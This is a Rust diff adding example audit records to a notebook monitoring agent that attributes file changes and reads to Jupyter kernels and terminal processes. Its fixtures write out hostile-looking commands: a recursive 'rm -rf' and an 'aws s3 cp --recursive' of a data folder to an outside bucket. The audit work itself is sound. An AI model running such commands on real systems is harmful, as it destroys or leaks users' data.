@@ -8,7 +8,13 @@ use notebook_agent::audit::change::{
     AgentEvent, ChangeKind, ControlFailure, FileFacts, FileKind, FsChange, Source,
 };
 use notebook_agent::audit::ocsf::{self, Context};
+use notebook_agent::audit::ocsf_actor::{actor, attribute, Attribution};
+use notebook_agent::audit::process::jupyter::JupyterRole;
+use notebook_agent::audit::process::table::Seen;
+use notebook_agent::audit::process::{Lookup, ProcessInfo};
+use notebook_agent::audit::reads::{self, ReadRecord};
 use serde_json::{json, Value};
+use std::sync::Arc;
 
 pub const ARN: &str = "arn:aws:sagemaker:eu-west-1:123456789012:notebook-instance/research-nb";
 
@@ -57,6 +63,7 @@ fn ch(kind: ChangeKind, path: &str, facts: Option<FileFacts>, source: Source) ->
         facts,
         time_ms: T,
         source,
+        pid: None,
     }
 }
 
@@ -118,8 +125,11 @@ pub fn agent_examples() -> Vec<(&'static str, &'static str, AgentEvent)> {
             AgentEvent::Started {
                 version: "0.1.0".into(),
                 paths: vec![HOME.into()],
-                watches: 812,
+                watches: 0,
                 catch_up_changes: 2,
+                source: "fanotify".into(),
+                source_reason: "fanotify: filesystem mark through /home/ec2-user/SageMaker".into(),
+                actors: "process-events connector".into(),
             },
         ),
         (
@@ -315,6 +325,10 @@ pub fn examples(ctx: &Context) -> Vec<(&'static str, &'static str, Value)> {
         out.push((name, what, ocsf::file_activity_with_uid(&c, ctx, seq, &uid)));
         seq += 1;
     }
+    for (name, what, r) in attributed_examples(ctx, seq) {
+        out.push((name, what, r));
+        seq += 1;
+    }
     for (name, what, e) in agent_examples() {
         let uid = format!("00000000-0000-4000-8000-{seq:012}");
         out.push((
@@ -324,6 +338,169 @@ pub fn examples(ctx: &Context) -> Vec<(&'static str, &'static str, Value)> {
         ));
         seq += 1;
     }
+    out
+}
+
+/// The attribution of `pid` (`lookup`), with the process that holds its Jupyter role, if any.
+fn by<'a>(
+    pid: u32,
+    lookup: &'a Lookup,
+    parent: Option<&'a ProcessInfo>,
+    role: Option<&'a ProcessInfo>,
+) -> Attribution<'a> {
+    Attribution {
+        pid: Some(pid),
+        lookup,
+        parent,
+        jupyter: role.and_then(|r| r.jupyter.as_ref().map(|j| (j, r))),
+    }
+}
+
+fn process(pid: u32, ppid: u32, name: &str, exe: &str, cmd: &str, created: i64) -> ProcessInfo {
+    ProcessInfo {
+        pid,
+        ppid,
+        name: Some(name.into()),
+        exe: Some(exe.into()),
+        cmd_line: Some(cmd.into()),
+        created_time_ms: created,
+        uid: Some(1000),
+        user: Some("ec2-user".into()),
+        real_uid: Some(1000),
+        real_user: Some("ec2-user".into()),
+        exited_ms: None,
+        jupyter: None,
+        seen: Seen::Exec,
+        note: None,
+    }
+}
+
+pub const KERNEL_ID: &str = "5f2b6b5e-1c1a-4c9a-9d7e-0c7a3e2f1b11";
+
+/// Records with the process behind them (the fanotify source): what `attribution` adds.
+pub fn attributed_examples(
+    ctx: &Context,
+    first_seq: u64,
+) -> Vec<(&'static str, &'static str, Value)> {
+    let server = process(
+        2101, 2088, "jupyter-server", "/usr/bin/python3.11",
+        "/home/ec2-user/anaconda3/envs/JupyterSystemEnv/bin/python /home/ec2-user/anaconda3/envs/JupyterSystemEnv/bin/jupyter-server --ip=127.0.0.1",
+        T - 3_600_000,
+    );
+    let kernel = ProcessInfo {
+        jupyter: Some(JupyterRole::Kernel { id: KERNEL_ID.into() }),
+        ..process(
+            4242, 2101, "python", "/usr/bin/python3.11",
+            &format!("/home/ec2-user/anaconda3/envs/python3/bin/python -m ipykernel_launcher -f /home/ec2-user/.local/share/jupyter/runtime/kernel-{KERNEL_ID}.json"),
+            T - 600_000,
+        )
+    };
+    let shell = ProcessInfo {
+        jupyter: Some(JupyterRole::Terminal {
+            tty: Some("pts/1".into()),
+        }),
+        ..process(
+            5150,
+            2101,
+            "bash",
+            "/usr/bin/bash",
+            "/bin/bash -l",
+            T - 120_000,
+        )
+    };
+    let rm = ProcessInfo {
+        exited_ms: Some(T - 5),
+        ..process(5188, 5150, "rm", "/usr/bin/rm", "rm -rf old-runs", T - 40)
+    };
+    let aws = ProcessInfo {
+        ..process(
+            5201,
+            5150,
+            "aws",
+            "/home/ec2-user/anaconda3/bin/python3.11",
+            "aws s3 cp --recursive data/ s3://outside-bucket/ --sse-kms-key-id REDACTED",
+            T - 2_000,
+        )
+    };
+    let mut out = Vec::new();
+    let mut seq = first_seq;
+    let mut uid = || {
+        let u = format!("00000000-0000-4000-8000-{seq:012}");
+        seq += 1;
+        (seq - 1, u)
+    };
+    let file = |kind, path: &str, pid| FsChange {
+        pid: Some(pid),
+        ..ch(kind, path, Some(regular()), Source::Live)
+    };
+    let known = |i: &ProcessInfo| Lookup::Known(Arc::new(i.clone()));
+
+    let (n, u) = uid();
+    let mut r =
+        ocsf::file_activity_with_uid(&file(ChangeKind::Create, "results.csv", 4242), ctx, n, &u);
+    let l = known(&kernel);
+    attribute(&mut r, &by(4242, &l, Some(&server), Some(&kernel)), ctx);
+    out.push(("create-by-kernel", "A notebook's kernel wrote a file (fanotify source): `actor.process` is the kernel, `unmapped.jupyter` names it.", r));
+
+    let (n, u) = uid();
+    let mut r = ocsf::file_activity_with_uid(
+        &FsChange {
+            facts: None,
+            ..file(ChangeKind::Delete, "old-runs/run-1.log", 5188)
+        },
+        ctx,
+        n,
+        &u,
+    );
+    let l = known(&rm);
+    attribute(&mut r, &by(5188, &l, Some(&shell), Some(&shell)), ctx);
+    out.push(("delete-by-terminal", "`rm -rf` typed in a Jupyter terminal: the short-lived `rm` (gone before its event was read; the process-events connector kept it), its shell and the terminal.", r));
+
+    let (n, u) = uid();
+    let mut r =
+        ocsf::file_activity_with_uid(&file(ChangeKind::Create, "scratch.txt", 31337), ctx, n, &u);
+    let l = Lookup::Unknown("process 31337 exited before it could be read (no process-events connector: the connector answers only in the host's network namespace)".into());
+    attribute(&mut r, &by(31337, &l, None, None), ctx);
+    out.push(("create-by-unknown", "The process could not be known: the record says why and names only the pid the kernel gave.", r));
+
+    let (n, u) = uid();
+    let rec = ReadRecord::Dir {
+        actor: (5201u32, aws.created_time_ms),
+        dir: PathBuf::from(HOME).join("data/images"),
+        reads: 12_800,
+        files: 12_800,
+        files_lower_bound: false,
+        first_ms: T - 1_900,
+        last_ms: T,
+        sample: [
+            "n01440764_10026.JPEG",
+            "n01440764_10027.JPEG",
+            "n01440764_10029.JPEG",
+        ]
+        .iter()
+        .map(Into::into)
+        .collect(),
+        overflow: false,
+    };
+    let l = known(&aws);
+    let (a, extra) = actor(&by(5201, &l, Some(&shell), Some(&shell)), ctx);
+    out.push(("read-summary", "Read audit (`audit.reads`): one process read 12,800 matching files of one folder in the window: one summary record with counts and a sample of names.", reads::encode(&rec, a, extra, ctx, n, &u)));
+
+    let (n, u) = uid();
+    let rec = ReadRecord::File {
+        actor: (4242u32, kernel.created_time_ms),
+        path: PathBuf::from(HOME).join("data/train.csv"),
+        reads: 3,
+        first_ms: T - 20_000,
+        last_ms: T,
+    };
+    let l = known(&kernel);
+    let (a, extra) = actor(&by(4242, &l, Some(&server), Some(&kernel)), ctx);
+    out.push((
+        "read-file",
+        "Read audit: a kernel read one matching file three times in the window.",
+        reads::encode(&rec, a, extra, ctx, n, &u),
+    ));
     out
 }
 
